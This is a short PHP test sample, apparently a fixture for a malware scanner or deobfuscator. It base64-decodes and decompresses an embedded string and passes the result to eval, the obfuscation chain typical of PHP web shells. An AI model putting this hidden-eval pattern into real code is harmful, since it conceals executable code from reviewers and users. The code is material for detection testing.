<?php
// Test sample: zlib-compressed (gzcompress) payload.
$d = 'eNpzSC1LzNFQiQ/wDw6JVq9Qj9W0BgA8rwW8';
eval(gzuncompress(base64_decode($d)));
